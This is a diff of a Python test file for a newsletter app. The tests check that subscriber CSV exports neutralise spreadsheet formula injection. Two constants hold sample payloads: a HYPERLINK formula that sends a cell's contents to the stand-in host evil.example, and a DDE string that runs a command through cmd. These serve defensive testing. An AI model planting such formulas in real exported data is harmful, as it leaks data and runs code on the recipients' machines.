@@ -7,12 +7,9 @@ import csv
 import io
 import json
 from pathlib import Path
-from typing import Iterator
 
 import pytest
-import sqlalchemy as sa
 
-from newsletter.store import open_store
 from newsletter.subscribers.csvfile import neutralise, restore
 from tests.support.cli import run_cli
 from tests.support.configs import base_config, write_config
@@ -21,14 +18,6 @@ from tests.support.subscribing import link_in, press, serve_site, session, subsc
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 HOSTILE_AGENT = "=cmd|' /C calc'!A0"
-
-
-@pytest.fixture
-def inbox() -> Iterator[Inbox]:
-    box = Inbox()
-    box.controller.start()
-    yield box
-    box.controller.stop()
 
 
 @pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''@", "'plain",
